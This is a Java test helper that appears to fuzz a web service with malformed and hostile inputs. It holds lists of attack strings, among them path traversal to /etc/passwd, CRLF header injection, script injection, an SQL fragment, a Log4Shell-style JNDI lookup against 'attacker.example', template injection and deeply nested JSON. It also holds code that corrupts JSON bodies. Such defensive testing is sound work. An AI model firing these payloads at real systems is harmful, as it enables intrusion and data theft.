package dev.tern.attack;

import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.SplittableRandom;
import java.util.regex.MatchResult;
import java.util.regex.Pattern;

/** Texts, and bodies of JSON, as an attacker would send them. All are written in ISO 8859-1, so that a character is a byte. */
final class Bad {
    private static final List<String> TEXTS = List.of(
            "",
            "+",
            "%",
            "%zz",
            "%c0%af",
            "%ff%fe",
            "%00",
            "%ed%a0%80",
            "%0d%0aX-Forged:%201",
            "%E5%98%8D%E5%98%8AX-Forged:%201",
            "..",
            "../../../etc/passwd",
            "%2e%2e%2f%2e%2e%2f",
            "x".repeat(5_000),
            "\u00c3\u00a9\u00ff\u00fe",
            "<script>alert(1)</script>",
            "';--",
            "${jndi:ldap://attacker.example/a}",
            "{{7*7}}",
            "*",
            "-1",
            "99999999999999999999",
            "1e999999",
            "NaN",
            "null",
            "[]",
            "{}",
            "&&==&=&",
            "a".repeat(63),
            "AAAAAAAAAAAAAAAAAAAAAA",
            "AAAAAAAAAAAAAAAAAAAAAA.AAAAAAAAAAAAAAAAAAAAAA");

    private static final List<String> VALUES = List.of(
            "null",
            "true",
            "[]",
            "{}",
            "\"\"",
            "-0",
            "1e999999999",
            "1e-999999999",
            "1e2147483648",
            "0." + "0".repeat(60) + "1",
            "9".repeat(64),
            "9".repeat(1_000),
            "NaN",
            "'a'",
            "01",
            "1.",
            "\"\\ud800\"",
            "\"\\udc00\\ud800\"",
            "\"\\u0000\"",
            "\"\\r\\nX-Forged: 1\"",
            "\"\\x\"",
            "\"\u0000\"",
            "\"\u00ed\u00a0\u0080\"",
            "\"\u00c0\u0080\"",
            "\"" + "x".repeat(70_000) + "\"",
            "[".repeat(60) + "]".repeat(60),
            "[".repeat(10_000),
            "{\"a\":".repeat(1_000),
            "{\"not\":".repeat(40) + "{\"event\":\"*\"}" + "}".repeat(40),
            "{\"all\":[" + "{\"event\":\"a\"},".repeat(500) + "{\"event\":\"b\"}]}",
            "\"(((((((((((((((a*)*)*)*)*)*)*)*)*)*)*)*)*)*)*\"",
            "\"9999999999d\"",
            "\"-1d\"",
            "\"+1000000000-12-31T23:59:59.999999999Z\"",
            "\"0000-00-00T00:00:00Z\"");

    private static final Pattern TOKEN =
            Pattern.compile("\"(?:[^\"\\\\]|\\\\.)*+\"|-?\\d+(?:\\.\\d+)?|true|false|null");

    private Bad() {}

    /** A text for a path, a query or a header: it has no space, no control character and no end of line. */
    static String text(SplittableRandom random) {
        return random.nextInt(4) == 0 ? noise(random) : pick(random, TEXTS);
    }

    static String pick(SplittableRandom random, List<String> some) {
        return some.get(random.nextInt(some.size()));
    }

    /** Any printable bytes, and those that UTF-8 makes its characters of. */
    private static String noise(SplittableRandom random) {
        StringBuilder noise = new StringBuilder();
        for (int i = random.nextInt(200); i > 0; i--) {
            int each = random.nextInt('!', 0x100);
            noise.append((char) (each == 0x7f ? '~' : each));
        }
        return noise.toString();
    }

    /** The JSON with something wrong about it, or a few things. */
    static String json(SplittableRandom random, String json) {
        String bad = json;
        for (int times = random.nextInt(1, 4); times > 0; times--) {
            bad = switch (random.nextInt(8)) {
                case 0, 1, 2 -> withToken(random, bad, pick(random, VALUES));
                case 3 -> bad.replaceFirst("\\{", "{\"unknown\":1,");
                case 4 -> twice(random, bad);
                case 5 -> bad.substring(0, random.nextInt(bad.length() + 1));
                case 6 -> withByte(random, bad);
                default -> bad + pick(random, VALUES);
            };
        }
        return bad;
    }

    private static String withToken(SplittableRandom random, String json, String value) {
        List<MatchResult> tokens = TOKEN.matcher(json).results().toList();
        if (tokens.isEmpty()) {
            return value;
        }
        MatchResult token = tokens.get(random.nextInt(tokens.size()));
        return json.substring(0, token.start()) + value + json.substring(token.end());
    }

    /** With the first member of an object once more. */
    private static String twice(SplittableRandom random, String json) {
        List<MatchResult> names =
                Pattern.compile("\"\\w+\":").matcher(json).results().toList();
        if (names.isEmpty()) {
            return json;
        }
        MatchResult name = names.get(random.nextInt(names.size()));
        return json.substring(0, name.start()) + name.group() + "1," + json.substring(name.start());
    }

    private static String withByte(SplittableRandom random, String json) {
        StringBuilder bytes = new StringBuilder(json);
        if (!bytes.isEmpty()) {
            bytes.setCharAt(random.nextInt(bytes.length()), (char) random.nextInt(0x100));
        }
        return bytes.toString();
    }

    static byte[] bytes(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }
}
